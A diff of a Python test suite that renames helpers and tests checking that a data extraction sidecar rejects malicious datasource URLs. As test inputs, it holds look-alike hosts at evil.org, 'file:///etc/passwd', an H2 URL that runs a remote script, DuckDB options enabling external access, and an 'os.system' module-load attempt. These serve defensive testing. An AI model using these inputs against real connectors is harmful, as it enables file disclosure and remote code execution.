@@ -1,4 +1,4 @@
-"""Datasources that mean harm: what is not allowed is not reached, no file is found out about, and nothing takes long."""
+"""Malicious datasources: the allowlist holds, no local file is disclosed, and parsing time is bounded."""
 
 import ssl
 import time
@@ -9,7 +9,7 @@ import certifi
 import pytest
 
 from sidecar.errors import BadRequest, InvalidField, SourceError
-from sidecar.extract.drivers import open_reader, source_of
+from sidecar.extract.drivers import create_reader, create_source
 from sidecar.extract.mysql.session import _tls
 from sidecar.extract.postgresql.connect import asyncpg_parameters, libpq_parameters
 from sidecar.extract.reader import Source
@@ -19,8 +19,8 @@ from sidecar.model.datasource import Datasource
 ALLOWED = ("postgresql://db.example.org:5432/*", "mysql://10.0.*:3306/shop", "sqlite:///srv/data/*", "duckdb:///srv/data/*.duckdb")
 
 
-def made(url: str, allowed: tuple[str, ...] | None = ALLOWED, **details: Any) -> Source:
-    return source_of(Datasource(id="tested", url=url, **details), None, allowed)
+def source_from_url(url: str, allowed: tuple[str, ...] | None = ALLOWED, **details: Any) -> Source:
+    return create_source(Datasource(id="tested", url=url, **details), None, allowed)
 
 
 @pytest.mark.parametrize(
@@ -30,14 +30,14 @@ def made(url: str, allowed: tuple[str, ...] | None = ALLOWED, **details: Any) ->
         "jdbc:sqlite:/srv/data/a/b.db", "duckdb:////srv/data/x.duckdb", "jdbc:sqlite:/srv/data/../data/x.db",
     ],
 )  # fmt: skip
-def test_what_is_allowed_is_let_through(url: str) -> None:
-    assert made(url)
+def test_an_allowed_source_is_accepted(url: str) -> None:
+    assert source_from_url(url).id == "tested"
 
 
 @pytest.mark.parametrize(
     "url",
     [
-        # other hosts in the clothes of the allowed one
+        # other hosts that look like the allowed one
         "jdbc:postgresql://evil.org:5432/shop", "jdbc:postgresql://evil.org:5432/db.example.org:5432/shop",
         "jdbc:postgresql://db.example.org@evil.org:5432/shop", "jdbc:postgresql://db.example.org:5432@evil.org/shop",
         "jdbc:postgresql://db.example.org:x@evil.org:5432/shop", "jdbc:postgresql://db.example.org,evil.org:5432/shop",
@@ -64,25 +64,25 @@ def test_what_is_allowed_is_let_through(url: str) -> None:
         "jdbc:duckdb:http://evil.org/x.duckdb", "jdbc:duckdb:s3://evil/x.duckdb", "jdbc:duckdb:ducklake:/srv/data/x.duckdb",
         "jdbc:duckdb:/srv/data/x.duckdb?enable_external_access=true", "jdbc:duckdb:/srv/data/x.duckdb?temp_directory=/tmp",
         "jdbc:duckdb:/srv/data/x.duckdb?allow_unsigned_extensions=true", "jdbc:duckdb:/srv/data/x.duckdb?home_directory=/",
-        # hosts in what is no host
+        # hosts inside other parts of the URL
         "jdbc:oracle:thin:@//10.0.0.1:1521/x)(HOST=evil.org", "oracle://10.0.0.1/x)(HOST=evil.org", "oracle://10.0.0.1:9999",
         "oracle+oracledb://10.0.0.1/?service_name=x", "jdbc:oracle:thin:@alias", "jdbc:sqlserver://10.0.0.1\\x;databaseName=x",
         "jdbc:sqlserver://10.0.0.1;serverName=evil.org;databaseName=x", "mssql+pymssql://10.0.0.1/x?server=evil.org",
         "", "jdbc:", "jdbc:postgresql", "//db.example.org/shop", "file:///etc/passwd", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x'",
     ],
 )  # fmt: skip
-def test_what_only_looks_allowed_is_refused(url: str) -> None:
+def test_a_source_that_only_looks_allowed_is_rejected(url: str) -> None:
     with pytest.raises(BadRequest):
-        made(url)
+        source_from_url(url)
 
 
 @pytest.mark.parametrize("url", ["oracle://h/x)(HOST=evil.org", "oracle://h:9999", "jdbc:oracle:thin:@alias", "jdbc:sqlserver://h\\x"])
-def test_a_host_cannot_hide_in_what_is_no_host_where_every_source_is_allowed(url: str) -> None:
+def test_a_host_cannot_hide_in_another_part_of_the_url_even_if_every_source_is_allowed(url: str) -> None:
     with pytest.raises(InvalidField, match=r"jdbc\.url"):
-        made(url, ("*://*",))
+        source_from_url(url, ("*://*",))
 
 
-def test_a_link_out_of_the_allowed_folder_is_no_way(tmp_path: Path) -> None:
+def test_a_link_out_of_the_allowed_folder_is_rejected(tmp_path: Path) -> None:
     inside, outside = tmp_path / "in", tmp_path / "out"
     inside.mkdir()
     outside.mkdir()
@@ -90,7 +90,7 @@ def test_a_link_out_of_the_allowed_folder_is_no_way(tmp_path: Path) -> None:
     (inside / "folder").symlink_to(outside)
     for path in ("x.db", "folder/x.db", "folder/../x.db"):
         with pytest.raises(BadRequest, match="SIDECAR_ALLOWED_SOURCES"):
-            made(f"jdbc:sqlite:{inside}/{path}", (f"sqlite://{inside}/*",))
+            source_from_url(f"jdbc:sqlite:{inside}/{path}", (f"sqlite://{inside}/*",))
 
 
 @pytest.mark.parametrize(
@@ -109,12 +109,12 @@ def test_a_link_out_of_the_allowed_folder_is_no_way(tmp_path: Path) -> None:
         ("postgresql://[!a]b:5432/*", "cb", False),
     ],
 )
-def test_a_pattern_of_an_address_names_no_host_that_is_only_called_so(pattern: str, host: str, allowed: bool) -> None:
+def test_a_pattern_of_an_ip_address_matches_no_host_name(pattern: str, host: str, allowed: bool) -> None:
     assert matches(Source(id="x", database="postgresql", host=host, port=5432, catalog="shop"), pattern) is allowed
 
 
 @pytest.mark.parametrize("pattern", ["sqlite:///*a*a*a*a*a*a*b", "sqlite:///*/*/*/*/*/x.db", "sqlite:///????*????*?*?*z"])
-def test_no_name_takes_long_to_be_compared(pattern: str) -> None:
+def test_matching_time_of_a_name_is_bounded(pattern: str) -> None:
     clock = time.process_time()
     assert not matches(Source(id="x", database="sqlite", catalog="/" + "a/" * 50_000), pattern)
     assert time.process_time() - clock < 2
@@ -122,17 +122,17 @@ def test_no_name_takes_long_to_be_compared(pattern: str) -> None:
 
 @pytest.mark.parametrize("scheme", ["jdbc:sqlserver://h;", "jdbc:oracle:thin:@", "jdbc:postgresql://", "jdbc:sqlite:", "jdbc:mysql:"])
 @pytest.mark.parametrize("piece", ["a", " ", "a={", "a=b;", "@", "%", "/", "[", ":1", "a:"])
-def test_no_url_takes_long_to_be_taken_apart(scheme: str, piece: str) -> None:
+def test_parsing_time_of_a_url_is_bounded(scheme: str, piece: str) -> None:
     clock = time.process_time()
     for size in (1_900, 1_000_000):
         try:
-            made(scheme + piece * (size // len(piece)), ("*://*",))
+            source_from_url(scheme + piece * (size // len(piece)), ("*://*",))
         except BadRequest:
             continue
     assert time.process_time() - clock < 2
 
 
-def test_a_refused_property_loads_and_runs_nothing() -> None:
+def test_dangerous_properties_are_rejected() -> None:
     hostile = {
         "postgresql": ("sslkey", "sslcert", "sslpassword", "service", "passfile", "options", "host", "hostaddr", "socketFactory",
                        "sslfactory", "loggerFile", "krbsrvname", "gsslib", "target_session_attrs", "dsn", "sslcrl"),
@@ -146,52 +146,52 @@ def test_a_refused_property_loads_and_runs_nothing() -> None:
         "oracle": ("config_dir", "wallet_location", "dsn", "mode", "oracle.net.tns_admin", "javax.net.ssl.trustStore"),
     }  # fmt: skip
     for database, names in hostile.items():
-        place = "/x" if database in ("sqlite", "duckdb") else "thin:@//h/x" if database == "oracle" else "//h"
+        location = "/x" if database in ("sqlite", "duckdb") else "thin:@//h/x" if database == "oracle" else "//h"
         for name in names:
             with pytest.raises(InvalidField, match=r"jdbc\.properties\."):
-                made(f"jdbc:{database}:{place}", ("*://*",), properties={name: "x"})
+                source_from_url(f"jdbc:{database}:{location}", ("*://*",), properties={name: "x"})
 
 
-def test_a_server_that_a_caller_chose_is_not_given_the_passwords_of_this_machine(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_server_never_receives_the_passwords_of_this_host(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("PGPASSWORD", "canary")
-    source = made("jdbc:postgresql://h/x", None, username="u")
+    source = source_from_url("jdbc:postgresql://h/x", None, username="u")
     assert libpq_parameters(source)["password"] == asyncpg_parameters(source)["password"] == ""
     assert libpq_parameters(source)["passfile"] == "/dev/null/none"
     assert libpq_parameters(source)["gssencmode"] == "disable"
 
 
-@pytest.mark.parametrize("what", ["missing", "unreadable", "folder", "device", "something else", "nul"])
-def test_which_files_there_are_is_not_told(tmp_path: Path, what: str) -> None:
+@pytest.mark.parametrize("kind", ["missing", "unreadable", "folder", "device", "something else", "nul"])
+def test_the_error_does_not_reveal_which_files_exist(tmp_path: Path, kind: str) -> None:
     (tmp_path / "something else").write_text("no certificate")
     (tmp_path / "folder").mkdir()
-    path = {"device": "/dev/zero", "unreadable": "/proc/1/mem", "nul": "/x\0y"}.get(what, str(tmp_path / what))
-    told = []
+    path = {"device": "/dev/zero", "unreadable": "/proc/1/mem", "nul": "/x\0y"}.get(kind, str(tmp_path / kind))
+    messages = []
     for url in ("jdbc:postgresql://h/x?sslmode=verify-full", "jdbc:postgresql://h/x?sslmode=require", "jdbc:mysql://h/x?sslMode=VERIFY_CA"):
-        source = made(url, None, username="u", properties={"sslrootcert": path})
-        with pytest.raises(InvalidField) as refused:
-            open_reader(source) if source.database == "postgresql" else _tls(source)
-        told.append(str(refused.value))
-        assert refused.value.__cause__ is None
-    assert set(told) == {
-        "[jdbc.properties.sslrootcert] must name a file of the sidecar's machine that holds the certificate of an authority, as PEM"
+        source = source_from_url(url, None, username="u", properties={"sslrootcert": path})
+        with pytest.raises(InvalidField) as caught:
+            create_reader(source) if source.database == "postgresql" else _tls(source)
+        messages.append(str(caught.value))
+        assert caught.value.__cause__ is None
+    assert set(messages) == {
+        "[jdbc.properties.sslrootcert] must be the path of a PEM file on the sidecar's host with the certificate of an authority"
     }
 
 
 @pytest.mark.parametrize("mode", ["disable", "allow", "prefer", ""])
-def test_a_file_that_nothing_is_verified_by_is_not_opened(mode: str) -> None:
-    source = made(f"jdbc:postgresql://h/x?sslrootcert=/dev/zero{mode and f'&sslmode={mode}'}", None, username="u")
+def test_the_certificate_is_not_opened_unless_it_is_used(mode: str) -> None:
+    source = source_from_url(f"jdbc:postgresql://h/x?sslrootcert=/dev/zero{mode and f'&sslmode={mode}'}", None, username="u")
     assert "sslrootcert" not in libpq_parameters(source)
     assert asyncpg_parameters(source)["ssl"] == (mode or "prefer")
 
 
-def test_an_authority_that_is_named_is_asked_by_both_drivers_of_postgresql() -> None:
-    source = made("jdbc:postgresql://h/x?sslmode=require", None, username="u", properties={"sslrootcert": certifi.where()})
+def test_both_postgresql_drivers_verify_the_given_authority() -> None:
+    source = source_from_url("jdbc:postgresql://h/x?sslmode=require", None, username="u", properties={"sslrootcert": certifi.where()})
     assert libpq_parameters(source)["sslmode"] == "verify-ca"
     assert asyncpg_parameters(source)["ssl"].verify_mode == ssl.CERT_REQUIRED
 
 
-def test_a_driver_that_is_not_there_is_no_way_to_load_another_module(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_url_cannot_load_a_module_that_is_not_a_dialect(monkeypatch: pytest.MonkeyPatch) -> None:
     with pytest.raises(BadRequest):
-        made("os.system+x://h/x", None)
+        source_from_url("os.system+x://h/x", None)
     with pytest.raises((BadRequest, SourceError)):
-        made("sidecar.cli://h/x", None)
+        source_from_url("sidecar.cli://h/x", None)
